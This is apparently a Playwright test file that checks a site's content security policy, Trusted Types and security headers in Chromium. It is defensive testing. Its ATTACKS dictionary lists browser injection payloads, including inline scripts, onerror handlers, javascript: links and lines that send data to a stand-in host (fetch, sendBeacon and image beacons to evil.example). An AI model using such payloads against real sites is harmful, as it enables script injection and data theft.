"""The content security policy in a real browser: no page trips over it, no attack gets past it."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, Route, expect

from tests.browser import service_stack
from tests.browser.conftest import OpenPage

EVIL = "http://evil.example"
# what Chromium writes of each thing it stops
STOPPED = (
    "Content Security Policy",
    "Refused to",
    "The action has been blocked",
    *service_stack.ANSWERS,
)
LISTEN = """
window.__violations = [];
document.addEventListener("securitypolicyviolation", (event) =>
  window.__violations.push(`${event.effectiveDirective} ${event.blockedURI}`));
"""


def pages(site_dir: Path) -> list[str]:
    """One page of each kind the release has."""
    release = site_dir / "current"
    kinds: dict[str, str] = {}
    for path in sorted(release.rglob("*.html")):
        address = "/" + str(path.relative_to(release)).removesuffix("index.html")
        kinds.setdefault(address.split("/")[1] if address.count("/") > 2 else address, address)
    return list(kinds.values())


def violations(page: Page) -> list[str]:
    found: list[str] = page.evaluate("window.__violations")
    return found


def test_no_page_trips_over_its_own_policy(
    built: Path, open_page: OpenPage, stack: service_stack.Stack, visit: OpenPage
) -> None:
    """Each kind of page, with a service and an admin signed in, and without any."""
    paths = pages(built / "site")
    assert len(paths) >= 8, paths
    without = open_page("/", expected=service_stack.ANSWERS)
    without.context.add_init_script(LISTEN)
    signed_in = visit("/")
    viewer = service_stack.Viewer(open_page("/", base=stack.channel.cytube.http_url), "labadmin")
    service_stack.sign_in(signed_in, viewer)
    signed_in.context.add_init_script(LISTEN)
    for page in (without, signed_in):
        for path in paths:
            page.goto(path)
            expect(page.locator("main")).to_be_visible()
            assert violations(page) == [], path


# what somebody's markup or script would try where a browser has no Trusted Types; each leaves
# window.pwned if it works
INLINE = "const s = document.createElement('script'); s.textContent = 'window.pwned = 1';"
ATTACKS: dict[str, tuple[str, str]] = {
    "inline script": (INLINE + "document.body.append(s)", "script-src-elem"),
    "event handler": (
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.pwned = 1\">')",
        "script-src-attr",
    ),
    "foreign script": (
        f"const s = document.createElement('script'); s.src = '{EVIL}/x.js';"
        "document.body.append(s)",
        "script-src-elem",
    ),
    "data script": (
        "const s = document.createElement('script'); s.src = 'data:text/javascript,window.pwned=1';"
        "document.body.append(s)",
        "script-src-elem",
    ),
    "string in a timer": ("setTimeout('window.pwned = 1')", "script-src"),
    "javascript address": (
        "const a = document.createElement('a'); a.href = 'javascript:window.pwned = 1';"
        "document.body.append(a); a.click()",
        "script-src-elem",
    ),
    "foreign form": (
        f"const f = document.createElement('form'); f.action = '{EVIL}/'; f.method = 'post';"
        "document.body.append(f); f.submit()",
        "form-action",
    ),
    "base address": (
        f"const b = document.createElement('base'); b.href = '{EVIL}/'; document.head.append(b)",
        "base-uri",
    ),
    "foreign frame": (
        f"const f = document.createElement('iframe'); f.src = '{EVIL}/'; document.body.append(f)",
        "frame-src",
    ),
    "plug-in": (
        f"const o = document.createElement('object'); o.data = '{EVIL}/'; document.body.append(o)",
        "object-src",
    ),
    "words to another site": (f"fetch('{EVIL}/?leak').catch(() => {{}})", "connect-src"),
    "beacon": (f"navigator.sendBeacon('{EVIL}/?leak', 'x')", "connect-src"),
    "picture as a beacon": (
        f"const i = new Image(); i.src = '{EVIL}/?leak'; document.body.append(i)",
        "img-src",
    ),
    "foreign style": (
        "const l = document.createElement('link'); l.rel = 'stylesheet';"
        f" l.href = '{EVIL}/x.css'; document.head.append(l)",
        "style-src-elem",
    ),
    "inline style": (
        "document.body.insertAdjacentHTML('beforeend', '<style>body{display:none}</style>')",
        "style-src-elem",
    ),
    "worker of a blob": (
        "try { new Worker(URL.createObjectURL(new Blob(['1']))) } catch (error) { }",
        "worker-src",
    ),
}


# with Trusted Types text cannot even become markup or the address of a script, our own site's too
SINKS = {
    "markup": "document.body.innerHTML = '<b>bold</b>'",
    "markup beside": "document.body.insertAdjacentHTML('beforeend', '<b>bold</b>')",
    "a parsed document": "new DOMParser().parseFromString('<b>bold</b>', 'text/html')",
    "a frame's document": "document.createElement('iframe').srcdoc = '<b>bold</b>'",
    "a script's text": INLINE + "document.body.append(s)",
    "a script's address": "document.createElement('script').src = '/sw.js'",
    "a worker's address": "new Worker('/sw.js')",
    "a service worker's address": "await navigator.serviceWorker.register('/sw.js')",
    "our policy once more": "trustedTypes.createPolicy('kryten', {})",
    "another policy": "trustedTypes.createPolicy('other', {})",
    "a default policy": "trustedTypes.createPolicy('default', {})",
}


def without_trusted_types(route: Route) -> None:
    """The page as a browser takes it that does not know the two directives."""
    answer = route.fetch()
    headers = answer.headers
    policy = headers["content-security-policy"].split("; ")
    kept = [rule for rule in policy if "trusted-types" not in rule]
    assert len(kept) == len(policy) - 2
    headers["content-security-policy"] = "; ".join(kept)
    route.fulfill(response=answer, headers=headers)


@pytest.fixture
def attacked(open_page: OpenPage) -> Callable[[], tuple[Page, list[str]]]:
    """The catalog page that notes violations, and whatever reached the other site; without
    Trusted Types, which would stop most of it before the rule that is looked at.
    """

    def open_() -> tuple[Page, list[str]]:
        page = open_page("/", expected=STOPPED)
        reached: list[str] = []

        def on_evil(route: Route) -> None:
            reached.append(route.request.url)
            route.fulfill(body="window.pwned = 1", content_type="text/javascript")

        page.context.route(f"{EVIL}/**", on_evil)
        page.context.route(page.url, without_trusted_types)
        page.context.add_init_script(LISTEN)
        page.goto("/")
        page.wait_for_selector("#results")
        return page, reached

    return open_


def test_every_injection_is_stopped(attacked: Callable[[], tuple[Page, list[str]]]) -> None:
    """The browser says which rule stopped it, nothing ran, and nothing reached the other site."""
    page, reached = attacked()
    for name, (script, directive) in ATTACKS.items():
        page.evaluate("window.__violations.length = 0")
        # later, by itself: what the test evaluates directly is above the page's policy
        page.evaluate(f"() => {{ setTimeout(() => {{ {script}; }}, 0); }}")
        page.wait_for_function(
            "rule => window.__violations.some((one) => one.startsWith(rule))", arg=directive
        )
        assert page.evaluate("window.pwned") is None, name
        assert reached == [], name
    assert page.url.startswith(page.evaluate("location.origin"))
    assert page.evaluate("document.baseURI").startswith(page.evaluate("location.origin"))


def test_text_becomes_neither_markup_nor_a_script(open_page: OpenPage) -> None:
    page = open_page("/", expected=STOPPED, service_workers="allow")
    page.wait_for_selector("#results")
    for name, script in SINKS.items():
        raised = page.evaluate(
            # later, by itself: what the test evaluates directly is above the page's policy
            """(script) => new Promise((resolve) => setTimeout(async () => {"""
            f"try {{ {script}; resolve(null); }} catch (error) {{ resolve(error.name); }}"
            "}))"
        )
        assert raised == "TypeError", name


def test_text_is_never_code(attacked: Callable[[], tuple[Page, list[str]]]) -> None:
    """eval and new Function raise, so no library can bring them in unseen."""
    page, _ = attacked()
    asked: dict[str, Any] = page.evaluate(
        """() => new Promise((resolve) => setTimeout(() => resolve(Object.fromEntries(
             [["eval", () => eval("1")], ["Function", () => new Function("1")]].map(
               ([name, run]) => {
                 try { run(); return [name, "ran"]; } catch (error) { return [name, error.name]; }
               })))))"""
    )
    assert asked == {"eval": "EvalError", "Function": "EvalError"}


@pytest.mark.parametrize("path", ["/", "/admin/", "/api/v1/auth/session"])
def test_no_page_can_be_framed(open_page: OpenPage, visit: OpenPage, path: str) -> None:
    """Another site that puts us into a frame gets an error page: no click can be stolen."""
    page = visit("/", expected=STOPPED)
    ours = page.evaluate("location.origin")

    def framing(route: Route) -> None:
        route.fulfill(body=f'<iframe src="{ours}{path}"></iframe>', content_type="text/html")

    page.context.route(f"{EVIL}/**", framing)
    page.goto(f"{EVIL}/")
    frame = page.frames[1]
    frame.wait_for_url("chrome-error://**")
    assert frame.evaluate("document.body.innerText").find("Catalog") < 0


def test_the_other_headers_reach_the_browser(visit: OpenPage) -> None:
    """Types are not guessed, other windows are cut off, the address is not told in full."""
    page = visit("/")
    headers = page.request.get("/").headers
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["referrer-policy"] == "strict-origin-when-cross-origin"
    assert headers["cross-origin-opener-policy"] == "same-origin"
    for power in ("camera", "geolocation", "microphone", "payment", "usb"):
        assert f"{power}=()" in headers["permissions-policy"]
        assert power not in page.evaluate("document.featurePolicy.allowedFeatures()")
    assert "server" not in headers
